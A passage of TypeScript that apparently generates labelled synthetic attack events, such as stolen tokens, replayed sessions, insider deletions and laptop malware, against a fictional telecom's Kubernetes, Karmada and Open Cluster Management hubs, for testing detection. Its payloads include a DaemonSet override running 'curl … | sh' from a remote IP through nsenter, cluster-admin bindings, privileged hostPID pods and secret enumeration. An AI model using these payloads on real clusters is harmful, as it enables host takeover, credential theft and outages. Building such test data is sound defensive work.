      resourceSelectors: [{ apiVersion: 'apps/v1', kind: 'DaemonSet', name }],
      overrideRules: [{
        targetCluster: { clusterNames: ['core-fra', 'core-ham', 'core-muc'] },
        overriders: {
          plaintext: [
            { path: '/spec/template/spec/hostPID', operator: 'add', value: true },
            { path: '/spec/template/spec/containers/0/securityContext', operator: 'replace', value: { privileged: true } },
            { path: '/spec/template/spec/containers/0/command', operator: 'add', value: ['/bin/sh', '-c', 'nsenter -t 1 -m -u -i -n -- sh -c "curl -s https://203.0.113.61/k | sh"; exec /upf-agent'] },
          ],
        },
      }],
    },
  };
}

function attacks21(people: Person[], routine: DayEvent[]): DayEvent[] {
  const out: DayEvent[] = [];
  const { by, add, T, to: on } = attackKit(out, people, D21_WED, HUB);
  const kubectlOf = (x: DayEvent) => x.ua.startsWith('kubectl/');
  const laptop = (attack: string, victim: Person, h: number, host: string, reqs: AttackRequest[], gap: number) => {
    const v = lastScoredOf(routine, victim.name, T(h), kubectlOf);
    add(attack, T(h), v.ip, v.ua, v.login, on(host, reqs), gap, victim);
  };
  const work = (c: string) => `${WORK}/namespaces/${c}/manifestworks?fieldManager=kubectl-client-side-apply&fieldValidation=Strict`;

  // 1. Malware on platform-1's laptop at 13:40: a ManifestWork in three edge clusters' namespaces
  // binding cluster-admin to a service account of its own, with a never-expiring token for it.
  const pf1 = by('platform-1');
  laptop('a ManifestWork that binds cluster-admin on three edge clusters to a service account of its own (platform laptop)', pf1, 13.66, HUB, [
    ['GET', `${OCM}/managedclusters?limit=500`, false],
    ...[EDGE(21), EDGE(22), EDGE(23)].map((c): AttackRequest => ['POST', work(c), true, JSON_CT, JSON.stringify(adminWork(c))]),
  ], 6 * S);

  // 2. platform-2's token (an infostealer's copy of the kubelogin cache) from a VPS at 12:30: an
  // ApplicationSet with a cluster generator, the attacker's repository on every edge cluster.
  const pf2 = by('platform-2');
  const v2 = lastScoredOf(routine, pf2.name, T(12.5), kubectlOf);
  const appset = { apiVersion: 'argoproj.io/v1alpha1', kind: 'ApplicationSet', metadata: { name: 'edge-telemetry', namespace: 'argocd' }, spec: { generators: [{ clusters: { selector: { matchLabels: { 'argocd.argoproj.io/secret-type': 'cluster' } } } }], template: { metadata: { name: '{{name}}-telemetry' }, spec: { project: 'default', source: { repoURL: 'https://gitlab.n0rdwave-ops.example/ran/edge-telemetry.git', targetRevision: 'HEAD', path: 'ds' }, destination: { server: '{{server}}', namespace: 'kube-system' }, syncPolicy: { automated: { prune: true, selfHeal: true } } } } } };
  add('an ApplicationSet with a cluster generator deploying the attacker\'s repository to every edge cluster, a platform token from a VPS', T(12.5), '45.131.66.20', v2.ua, v2.login, on(HUB, [
    ['GET', '/apis/argoproj.io/v1alpha1/namespaces/argocd/applicationsets', false],
    ['POST', '/apis/argoproj.io/v1alpha1/namespaces/argocd/applicationsets', true, JSON_CT, JSON.stringify(appset)],
  ]), 5 * S, pf2);

  // 3. Malware on platform-3's laptop (the Karmada engineer) at 14:10: an OverridePolicy making
  // the user plane's agent DaemonSet privileged with the host's PIDs on every core cluster.
  const pf3 = by('platform-3');
  laptop("a Karmada OverridePolicy making the user plane's DaemonSet privileged with the host's PIDs on every member cluster (platform laptop)", pf3, 14.16, KARMADA, [
    ['GET', '/apis/policy.karmada.io/v1alpha1/namespaces/cnf-upf/propagationpolicies', false],
    ['POST', '/apis/policy.karmada.io/v1alpha1/namespaces/cnf-upf/overridepolicies?fieldManager=kubectl-client-side-apply&fieldValidation=Strict', true, JSON_CT, JSON.stringify(privilegedOverride('cnf-upf', 'upf-agent'))],
  ], 5 * S);

  // 4. Malware on cnf-2's laptop at 11:05: a NetworkAttachmentDefinition on the management VLAN
  // (the OAM network every node's BMC and the hub's agents are on), and a pod attached to it.
  const cnf2 = by('cnf-2');
  const mgmt = { apiVersion: 'k8s.cni.cncf.io/v1', kind: 'NetworkAttachmentDefinition', metadata: { name: 'n6-sriov-b', namespace: 'cnf-smf' }, spec: { config: JSON.stringify({ cniVersion: '0.3.1', name: 'n6-sriov-b', type: 'macvlan', master: 'bond0.3100', mode: 'bridge', ipam: { type: 'static', addresses: [{ address: '10.31.0.250/24' }] } }) } };
  const probe = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'smf-debug', namespace: 'cnf-smf', annotations: { 'k8s.v1.cni.cncf.io/networks': 'n6-sriov-b' } }, spec: { containers: [{ name: 'debug', image: 'registry.nordwave.example/tools/netshoot:0.13', command: ['sleep', 'infinity'] }] } };
  laptop('a NetworkAttachmentDefinition bridging a pod into the management VLAN (CNF laptop)', cnf2, 11.08, CORE, [
    ['GET', `${NAD}/namespaces/cnf-smf/network-attachment-definitions`, false],
    ['POST', `${NAD}/namespaces/cnf-smf/network-attachment-definitions`, true, JSON_CT, JSON.stringify(mgmt)],
    ['POST', '/api/v1/namespaces/cnf-smf/pods', true, JSON_CT, JSON.stringify(probe)],
  ], 8 * S);

  // 5. The vendor's kubeconfig left on the shared jump host, used at 04:40 (the window closed at
  // 03:00) by another user of the host: a shell in the AMF, then the SMF's Secrets.
  const vendor = by('vendor-1');
  const v5 = lastScoredOf(routine, vendor.name, T(3), kubectlOf);
  add("the vendor's kubeconfig on the shared jump host used after the maintenance window closed", T(4.66), JUMP, v5.ua, v5.login, on(CORE, [
    ['GET', '/api/v1/namespaces/cnf-amf/pods', false],
    ['POST', '/api/v1/namespaces/cnf-amf/pods/amf-7b9cd-4kq2x/exec?command=sh&container=amf&stdin=true&stdout=true&tty=true', true],
    ['GET', '/api/v1/namespaces/cnf-smf/secrets', true],
  ]), 20 * S, vendor);

  // 6. field-2's token used by another subscriber of the carrier's CGNAT (a malicious app sharing
  // the hotspot's pool) at 11:30: the site's cluster's import Secret and its work.
  const field2 = by('field-2');
  const v6 = lastScoredOf(routine, field2.name, T(11.5), kubectlOf);
  add("a field engineer's token used from another subscriber of the same carrier-grade NAT", T(11.5), '176.83.61.203', v6.ua, v6.login, on(HUB, [
    ['GET', `${WORK}/namespaces/${EDGE(42)}/manifestworks`, false],
    ['GET', `/api/v1/namespaces/${EDGE(42)}/secrets`, true],
    ['POST', work(EDGE(42)), true, JSON_CT, JSON.stringify(adminWork(EDGE(42)))],
  ]), 10 * S, field2);

  // 7. noc-3's OCM console session (a browser extension's copy of the cookie) used at 15:10 from
  // a residential proxy: the ManifestWorks of the south ring deleted through the console.
  const noc3 = by('noc-3');
  const v7 = lastScoredOf(routine, noc3.name, T(15), (x) => x.host === CONSOLE);
  add("the NOC's OCM console session replayed from a residential proxy, deleting the ring's work", T(15.16), '84.17.46.9', v7.ua, v7.login, on(CONSOLE, [
    ['GET', `/api/kubernetes${OCM}/managedclusters?limit=250`, false, BROWSER],
    ...[61, 62, 63].map((n): AttackRequest => ['DELETE', `/api/kubernetes${WORK}/namespaces/${EDGE(n)}/manifestworks/ran-config`, true, BROWSER]),
  ]), 6 * S, noc3);

  // 8. Malware on noc-6's workstation at 16:20, in their shift, through its kubectl: every edge
  // cluster's admin kubeconfig Secret on the hub, one a few seconds apart.
  const noc6 = by('noc-6');
  laptop("malware on a NOC workstation enumerating the edge clusters' admin kubeconfig Secrets on the hub", noc6, 16.33, HUB, [
    ['GET', `${OCM}/managedclusters?limit=500`, false],
    ...[5, 9, 14, 27, 31, 40].map((n): AttackRequest => ['GET', `/api/v1/namespaces/${EDGE(n)}/secrets/${EDGE(n)}-admin-kubeconfig`, true]),
  ], 4 * S);

  // 9. The outgoing night operator (noc-1, resigning) at 05:02, after the handover: four edge
  // clusters' registrations deleted (their klusterlets lose the hub; nothing is applied there
  // again until each is re-imported on site). An insider: signs in when asked.
  const noc1 = by('noc-1');
  const v9 = lastScoredOf(routine, noc1.name, T(5), kubectlOf);
  add('an outgoing NOC operator deletes edge clusters\' registrations (ManagedCluster) at handover', T(5.03), NOC_NAT, v9.ua, v9.login, on(HUB, [
    ['GET', `${OCM}/managedclusters?limit=500`, false],
    ...[88, 89, 90, 91].map((n): AttackRequest => ['DELETE', `${OCM}/managedclusters/${EDGE(n)}`, true]),
  ]), 8 * S);
  for (const e of out) if (e.attack?.startsWith('an outgoing NOC operator')) e.signsIn = true;

  // 10. The network-automation runner's token (leaked in a job log) at 14:45, from a runner's
  // address: a privileged host-network pod to an edge cluster in a ManifestWork.
  const ci: Login = { sub: 'system:serviceaccount:netauto:gitlab-deployer', sid: '', authTime: undefined, acr: 'urn:stepgate:aal1', serviceAccount: true };
  const tap = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'ran-capture', namespace: 'ran' }, spec: { hostNetwork: true, containers: [{ name: 'capture', image: 'docker.io/nicolaka/netshoot:v0.13', command: ['tcpdump', '-i', 'any', '-w', '/host/tmp/c.pcap'], securityContext: { privileged: true } }] } };
  add("the network-automation runner's leaked token pushing a privileged host-network pod to an edge cluster", T(14.75), '10.80.2.77', KUBECTL('linux/amd64'), ci, on(HUB, [
    ['GET', `${WORK}/namespaces/${EDGE(50)}/manifestworks/ran-config`, false],
    ['POST', work(EDGE(50)), true, JSON_CT, JSON.stringify({ apiVersion: 'work.open-cluster-management.io/v1', kind: 'ManifestWork', metadata: { name: 'ran-capture', namespace: EDGE(50) }, spec: { workload: { manifests: [tap] } } })],
  ]), 5 * S);

  // 11. cnf-1's kubelogin cache from a VPS at 13:20: a privileged pod with the host's PIDs in the user plane's namespace.
  const cnf1 = by('cnf-1');
  const v11 = lastScoredOf(routine, cnf1.name, T(13.33), kubectlOf);
  const priv = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'upf-perf', namespace: 'cnf-upf' }, spec: { hostPID: true, hostNetwork: true, containers: [{ name: 'perf', image: 'registry.nordwave.example/core/upf:1.44.2', command: ['nsenter', '-t', '1', '-a', 'sh'], securityContext: { privileged: true } }] } };
  add("a CNF engineer's token from a VPS: a privileged pod with the host's PIDs on the core cluster", T(13.33), '185.243.115.8', v11.ua, v11.login, on(CORE, [
    ['GET', '/api/v1/namespaces/cnf-upf/pods', false],
    ['POST', '/api/v1/namespaces/cnf-upf/pods', true, JSON_CT, JSON.stringify(priv)],
  ]), 5 * S, cnf1);
  return out;
}
